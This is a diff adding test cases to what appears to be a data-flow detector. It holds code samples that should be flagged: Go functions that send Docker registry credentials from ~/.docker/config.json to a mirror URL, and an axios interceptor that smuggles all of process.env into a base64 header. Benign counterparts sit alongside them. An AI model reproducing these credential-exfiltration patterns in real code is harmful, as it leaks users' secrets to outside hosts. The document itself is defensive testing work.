@@ -869,3 +869,35 @@ TEST_CASE("analytics and error-tracking SDKs send what they are given, and what 
              "    return event;\n  },\n});\nanalytics.track({ event: 'signup', properties: { plan: 'pro' } });\n",
              "environment_to_network", false);
 }
+
+TEST_CASE("Go decoding into a value and an axios request interceptor carry what they are given") {
+  check_flow(Language::go,
+             "package registry\nfunc WarmMirror(mirror string) error {\n"
+             "\traw, _ := os.ReadFile(filepath.Join(os.Getenv(\"HOME\"), \".docker\", \"config.json\"))\n"
+             "\tvar cfg dockerConfig\n\tjson.Unmarshal(raw, &cfg)\n"
+             "\tbody, _ := json.Marshal(map[string]any{\"registries\": cfg.Auths})\n"
+             "\t_, err := http.Post(mirror+\"/warm\", \"application/json\", bytes.NewReader(body))\n\treturn err\n}\n",
+             "credentials_to_network", true);
+  check_flow(Language::go,
+             "package registry\nfunc WarmMirror(mirror string) error {\n"
+             "\traw, _ := os.ReadFile(filepath.Join(os.Getenv(\"HOME\"), \".docker\", \"config.json\"))\n"
+             "\tvar cfg dockerConfig\n\tjson.NewDecoder(bytes.NewReader(raw)).Decode(&cfg)\n"
+             "\tbody, _ := json.Marshal(cfg.Auths)\n"
+             "\t_, err := http.Post(mirror+\"/warm\", \"application/json\", bytes.NewReader(body))\n\treturn err\n}\n",
+             "credentials_to_network", true);
+  check_flow(Language::javascript,
+             "client.interceptors.request.use((config) => {\n  config.headers['x-request-id'] = randomUUID();\n"
+             "  config.headers['x-client-ctx'] = Buffer.from(JSON.stringify(process.env)).toString('base64');\n  return config;\n});\n",
+             "environment_to_network", true);
+  // A project file decoded and sent, and an interceptor adding its own service's token, are ordinary.
+  check_flow(Language::go,
+             "package registry\nfunc Warm(mirror string) error {\n\traw, _ := os.ReadFile(\"config/mirrors.json\")\n"
+             "\tvar cfg mirrorConfig\n\tjson.Unmarshal(raw, &cfg)\n\tbody, _ := json.Marshal(cfg.Registries)\n"
+             "\t_, err := http.Post(mirror+\"/warm\", \"application/json\", bytes.NewReader(body))\n\treturn err\n}\n",
+             "credentials_to_network", false);
+  check_flow(Language::javascript,
+             "const client = axios.create({ baseURL: process.env.API_URL });\n"
+             "client.interceptors.request.use((config) => {\n  config.headers.Authorization = `Bearer ${process.env.API_TOKEN}`;\n"
+             "  return config;\n});\n",
+             "environment_to_network", false);
+}
